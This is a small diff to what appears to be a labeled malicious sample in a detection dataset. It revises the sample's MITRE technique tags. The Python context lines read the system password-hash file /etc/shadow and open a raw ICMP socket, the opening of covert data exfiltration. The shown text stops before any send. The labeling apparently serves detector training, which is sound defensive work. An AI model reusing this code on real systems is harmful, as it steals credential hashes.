@@ -1,4 +1,4 @@
-# label: malicious family=exfil techniques=T1048,T1095,T1003.008 lines=3-4,8
+# label: malicious family=exfil techniques=T1003.008,T1048.003 lines=3-4,8
 import socket, struct
 data = open("/etc/shadow", "rb").read()
 s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
